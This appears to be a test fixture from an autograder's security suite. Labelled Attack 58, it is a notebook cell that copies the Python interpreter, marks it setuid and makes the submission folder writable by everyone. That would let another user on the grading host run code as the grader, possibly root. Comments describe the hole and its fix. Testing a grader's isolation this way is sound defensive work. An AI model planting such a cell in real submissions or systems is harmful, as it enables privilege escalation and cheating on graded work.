# Attack 58, a setuid program for another user of the machine: a last cell copies the kernel's
# Python into its working folder as lab3-security-setuid, makes it setuid and opens the folder to
# everyone, then waits. On the host that file belongs to the grader's user (root, when grading as
# root), and the folder was a folder of /tmp: a student's own process on the grading machine (a
# hub whose servers run there) could run it as the grader. The working folder now lives in a
# private folder (0700) of the grader's that the sandbox does not mount: no other user reaches it.
# Why: full marks: the honest equivalent is the solution; the cell is ungraded and runs after
#   every test.
# ruff: noqa
# fmt: off
### AFTER em_plot
# --- attack: a setuid copy of Python where other users can run it ---
import os, shutil, sys, time

shutil.copy(sys.executable, "lab3-security-setuid")
os.chmod("lab3-security-setuid", 0o4755)
os.chmod("/lab3/submission", 0o777)
print("ATTACK setuid:", oct(os.stat("lab3-security-setuid").st_mode), oct(os.stat(".").st_mode))
time.sleep(2)  # long enough for a process outside to find it (the watcher looks twice a second)
